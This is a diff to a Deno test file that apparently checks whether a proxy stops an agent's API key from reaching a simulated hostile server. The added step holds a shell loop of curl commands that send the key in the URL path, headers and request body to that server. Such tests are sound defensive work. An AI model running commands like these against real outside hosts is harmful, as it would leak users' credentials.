@@ -12,6 +12,7 @@ import { withRig } from "./rig.ts";
 import { scanDirectories } from "./scan.ts";
 import { type Hostile, startHostile } from "./servers/hostile.ts";
 import { echoes, malformed } from "./servers/hostile_answers.ts";
+import { authorityOf } from "./servers/tls.ts";
 
 const NAMES = [...Object.keys(echoes), ...Object.keys(malformed)];
 
@@ -74,6 +75,28 @@ Deno.test("hostile run: answers that tell the secret, well-formed and malformed"
         assert.match(reportOf(said)["body"]!, / 200 /);
         assert.equal(hostile.lines.length, before + 3, said);
       }
+      await rig.assertNoSecrets();
+    });
+    await t.step("nor through HTTPS_PROXY, where the agent holds a placeholder", async () => {
+      const { services: _, ...agent } = await agentOf(rig, hostile, key, "");
+      const known = hostile.known();
+      const { said } = await rig.run({
+        ...agent,
+        placeholders: { KEY: "key" },
+        script: `mkdir received
+          for name in ${NAMES.join(" ")}; do
+            curl -s -m 60 -i --raw -H "X-Api-Key: $KEY" -o received/$name \
+              https://${authorityOf(hostile)}/$name/$KEY
+            code=$?; [ $code != 28 ] || echo "hang: $name"
+            curl -s -m 60 --compressed -H "Authorization: Bearer $KEY" -d "my key is $KEY" \
+              -o received/$name.body https://${authorityOf(hostile)}/$name
+          done
+          head -n 1 received/body`,
+      });
+      assert.match(said, /^HTTP\/1.1 200 /);
+      assert.doesNotMatch(said, /hang/);
+      // By path, header and body; the upstream was told each time.
+      assert.ok(hostile.known() >= known + NAMES.length, `${hostile.known() - known}`);
       await rig.assertNoSecrets();
     });
     await t.step("without Bureau's proxy the same answers bring it, each of them", async () => {
